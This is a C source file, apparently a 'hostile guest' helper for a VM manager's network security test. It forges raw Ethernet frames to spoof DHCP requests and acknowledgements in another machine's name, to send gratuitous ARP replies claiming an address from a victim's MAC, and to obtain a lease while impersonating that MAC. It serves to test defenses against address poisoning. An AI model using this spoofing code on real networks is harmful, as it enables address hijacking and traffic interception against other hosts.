/* A hostile guest's tool for test_sec_net.py: lies about another guest's
 * address on the wire, with raw Ethernet frames (AF_PACKET), to poison the
 * ip column of `vm info`.
 *
 *   dhcp_forge ack IFACE VICTIM_MAC IP [SRC_MAC SRC_IP]
 *       a DHCPREQUEST in the victim's name (from the victim's MAC), then a
 *       DHCPACK of the same transaction leasing IP to VICTIM_MAC, from
 *       SRC_MAC/SRC_IP (default: this NIC's MAC, 10.0.0.1), ten times
 *   dhcp_forge arp IFACE VICTIM_MAC IP
 *       gratuitous ARP requests and replies claiming IP, sent from the
 *       victim's MAC, ten times
 *   dhcp_forge lease IFACE VICTIM_MAC
 *       a real DHCP exchange with whatever server answers, in the victim's
 *       name (chaddr and source MAC the victim's, a client id of our own so
 *       the server hands out a new address); prints the address it got
 *
 * Built with gcc -static; exits 0 once everything was sent (lease: once
 * acknowledged), 1 on an error (printed).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static int sock = -1;
static int ifindex;
static uint8_t own_mac[6];

static void die(const char *what) {
    fprintf(stderr, "dhcp_forge: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void parse_mac(const char *s, uint8_t *m) {
    unsigned v[6];
    if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) {
        fprintf(stderr, "dhcp_forge: bad MAC %s\n", s);
        exit(1);
    }
    for (int i = 0; i < 6; ++i) m[i] = (uint8_t)v[i];
}

static void parse_ip(const char *s, uint8_t *a) {
    if (inet_pton(AF_INET, s, a) != 1) {
        fprintf(stderr, "dhcp_forge: bad IPv4 address %s\n", s);
        exit(1);
    }
}

static void open_iface(const char *name) {
    sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (sock < 0) die("socket");
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", name);
    if (ioctl(sock, SIOCGIFINDEX, &ifr) != 0) die(name);
    ifindex = ifr.ifr_ifindex;
    if (ioctl(sock, SIOCGIFHWADDR, &ifr) != 0) die(name);
    memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
    struct sockaddr_ll ll;
    memset(&ll, 0, sizeof ll);
    ll.sll_family = AF_PACKET;
    ll.sll_protocol = htons(ETH_P_ALL);
    ll.sll_ifindex = ifindex;
    if (bind(sock, (struct sockaddr *)&ll, sizeof ll) != 0) die("bind");
}

static void send_frame(const uint8_t *f, size_t n) {
    struct sockaddr_ll ll;
    memset(&ll, 0, sizeof ll);
    ll.sll_family = AF_PACKET;
    ll.sll_ifindex = ifindex;
    ll.sll_halen = 6;
    memcpy(ll.sll_addr, f, 6);
    if (sendto(sock, f, n, 0, (struct sockaddr *)&ll, sizeof ll) != (ssize_t)n) die("sendto");
}

static uint16_t ip_checksum(const uint8_t *h, size_t n) {
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(h[i] << 8 | h[i + 1]);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* A DHCP message in an Ethernet/IPv4/UDP frame; returns its length. */
struct dhcp {
    uint8_t op, type;
    uint32_t xid;
    const uint8_t *eth_src, *chaddr;
    uint8_t ip_src[4], yiaddr[4];
    uint8_t requested[4], server_id[4]; /* options 50, 54 when non-zero */
    const uint8_t *client_id;           /* option 61 (7 bytes) when set */
};

static size_t build(const struct dhcp *d, uint8_t *f) {
    static const uint8_t bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
    memset(f, 0, 600);
    memcpy(f, bcast, 6);
    memcpy(f + 6, d->eth_src, 6);
    f[12] = 0x08;
    f[13] = 0x00;
    uint8_t *ip = f + 14, *udp = ip + 20, *b = udp + 8;
    b[0] = d->op;
    b[1] = 1;
    b[2] = 6;
    b[4] = (uint8_t)(d->xid >> 24);
    b[5] = (uint8_t)(d->xid >> 16);
    b[6] = (uint8_t)(d->xid >> 8);
    b[7] = (uint8_t)d->xid;
    b[10] = 0x80; /* broadcast replies: we must see them */
    memcpy(b + 16, d->yiaddr, 4);
    if (d->op == 2) memcpy(b + 20, d->ip_src, 4);
    memcpy(b + 28, d->chaddr, 6);
    static const uint8_t cookie[4] = {99, 130, 83, 99};
    memcpy(b + 236, cookie, 4);
    size_t o = 240;
    b[o++] = 53;
    b[o++] = 1;
    b[o++] = d->type;
    static const uint8_t zero[4];
    if (memcmp(d->requested, zero, 4)) {
        b[o++] = 50;
        b[o++] = 4;
        memcpy(b + o, d->requested, 4);
        o += 4;
    }
    if (memcmp(d->server_id, zero, 4)) {
        b[o++] = 54;
        b[o++] = 4;
        memcpy(b + o, d->server_id, 4);
        o += 4;
    }
    if (d->client_id) {
        b[o++] = 61;
        b[o++] = 7;
        memcpy(b + o, d->client_id, 7);
        o += 7;
    }
    if (d->op == 2) {
        const uint8_t lease[] = {51, 4, 0, 0, 0x0e, 0x10, 1, 4, 255, 255, 255, 0};
        memcpy(b + o, lease, sizeof lease);
        o += sizeof lease;
    }
    b[o++] = 255;
    if (o < 300) o = 300;
    size_t udplen = 8 + o;
    ip[0] = 0x45;
    ip[2] = (uint8_t)((20 + udplen) >> 8);
    ip[3] = (uint8_t)(20 + udplen);
    ip[8] = 64;
    ip[9] = 17;
    memcpy(ip + 12, d->ip_src, 4);
    memset(ip + 16, 255, 4);
    uint16_t c = ip_checksum(ip, 20);
    ip[10] = (uint8_t)(c >> 8);
    ip[11] = (uint8_t)c;
    udp[0] = 0;
    udp[1] = d->op == 2 ? 67 : 68;
    udp[2] = 0;
    udp[3] = d->op == 2 ? 68 : 67;
    udp[4] = (uint8_t)(udplen >> 8);
    udp[5] = (uint8_t)udplen;
    return 14 + 20 + udplen;
}

static uint32_t random_xid(void) {
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    srand((unsigned)(ts.tv_nsec ^ getpid()));
    return ((uint32_t)rand() << 16) ^ (uint32_t)rand();
}

static void pause_ms(int ms) {
    struct timespec ts = {ms / 1000, (long)(ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

static int forge_ack(const uint8_t *victim, const char *ip, const uint8_t *src_mac,
                     const char *src_ip) {
    uint8_t f[600];
    struct dhcp req = {0}, ack = {0};
    req.op = 1;
    req.type = 3;
    req.xid = random_xid();
    req.eth_src = victim;
    req.chaddr = victim;
    ack = req;
    ack.op = 2;
    ack.type = 5;
    ack.eth_src = src_mac;
    parse_ip(src_ip, ack.ip_src);
    parse_ip(ip, ack.yiaddr);
    for (int i = 0; i < 10; ++i) {
        send_frame(f, build(&req, f));
        pause_ms(5);
        send_frame(f, build(&ack, f));
        pause_ms(100);
    }
    printf("sent forged ACKs leasing %s\n", ip);
    return 0;
}

static int forge_arp(const uint8_t *victim, const char *ip) {
    static const uint8_t bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
    uint8_t a[4];
    parse_ip(ip, a);
    for (int i = 0; i < 10; ++i) {
        for (int op = 1; op <= 2; ++op) {
            uint8_t f[60];
            memset(f, 0, sizeof f);
            memcpy(f, bcast, 6);
            memcpy(f + 6, victim, 6);
            f[12] = 0x08;
            f[13] = 0x06;
            uint8_t *p = f + 14;
            p[1] = 1;    /* Ethernet */
            p[2] = 0x08; /* IPv4 */
            p[4] = 6;
            p[5] = 4;
            p[7] = (uint8_t)op;
            memcpy(p + 8, victim, 6);
            memcpy(p + 14, a, 4);
            memcpy(p + 24, a, 4); /* gratuitous: target = sender */
            send_frame(f, sizeof f);
        }
        pause_ms(100);
    }
    printf("sent spoofed ARP claiming %s\n", ip);
    return 0;
}

/* Waits up to 6 s (dnsmasq pings a new address for 3 s before offering it)
 * for a server reply of transaction xid and type `type`. */
static int await_reply(uint32_t xid, uint8_t type, uint8_t *yiaddr, uint8_t *server) {
    struct timeval tv = {0, 200000};
    setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    time_t end = time(NULL) + 6;
    uint8_t f[2048];
    while (time(NULL) < end) {
        ssize_t n = recv(sock, f, sizeof f, 0);
        if (n < 14 + 20 + 8 + 240 || f[12] != 0x08 || f[13] != 0x00 || f[14 + 9] != 17)
            continue;
        size_t ihl = (size_t)(f[14] & 15) * 4;
        uint8_t *udp = f + 14 + ihl, *b = udp + 8;
        if ((size_t)n < 14 + ihl + 8 + 240) continue;
        if (udp[1] != 67 || udp[3] != 68 || b[0] != 2) continue;
        uint32_t x = (uint32_t)b[4] << 24 | (uint32_t)b[5] << 16 | (uint32_t)b[6] << 8 | b[7];
        if (x != xid) continue;
        uint8_t t = 0;
        for (size_t i = 240; i + 1 < (size_t)(n - 14 - (ssize_t)ihl - 8) && b[i] != 255;) {
            if (b[i] == 0) {
                ++i;
                continue;
            }
            if (b[i] == 53) t = b[i + 2];
            if (b[i] == 54 && server) memcpy(server, b + i + 2, 4);
            i += 2 + b[i + 1];
        }
        if (t == 6) {
            fprintf(stderr, "dhcp_forge: NAK\n");
            return -1;
        }
        if (t != type) continue;
        memcpy(yiaddr, b + 16, 4);
        return 0;
    }
    fprintf(stderr, "dhcp_forge: no reply of type %d\n", type);
    return -1;
}

static int forge_lease(const uint8_t *victim) {
    uint8_t f[600], offered[4], server[4] = {0}, acked[4];
    uint8_t client_id[7] = {1, 0x02, 0xde, 0xad, 0, 0, 0};
    uint32_t xid = random_xid();
    client_id[5] = (uint8_t)(xid >> 8);
    client_id[6] = (uint8_t)xid;
    struct dhcp d = {0};
    d.op = 1;
    d.type = 1;
    d.xid = xid;
    d.eth_src = victim;
    d.chaddr = victim;
    d.client_id = client_id;
    send_frame(f, build(&d, f));
    if (await_reply(xid, 2, offered, server) != 0) return 1;
    d.type = 3;
    memcpy(d.requested, offered, 4);
    memcpy(d.server_id, server, 4);
    send_frame(f, build(&d, f));
    if (await_reply(xid, 5, acked, NULL) != 0) return 1;
    char text[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, acked, text, sizeof text);
    printf("leased %s\n", text);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: dhcp_forge ack|arp|lease IFACE VICTIM_MAC [IP [SRC_MAC SRC_IP]]\n");
        return 2;
    }
    open_iface(argv[2]);
    uint8_t victim[6];
    parse_mac(argv[3], victim);
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(argv[1], "ack") && argc >= 5) {
        uint8_t src[6];
        memcpy(src, own_mac, 6);
        if (argc >= 7) parse_mac(argv[5], src);
        return forge_ack(victim, argv[4], src, argc >= 7 ? argv[6] : "10.0.0.1");
    }
    if (!strcmp(argv[1], "arp") && argc >= 5) return forge_arp(victim, argv[4]);
    if (!strcmp(argv[1], "lease")) return forge_lease(victim);
    fprintf(stderr, "dhcp_forge: bad arguments\n");
    return 2;
}
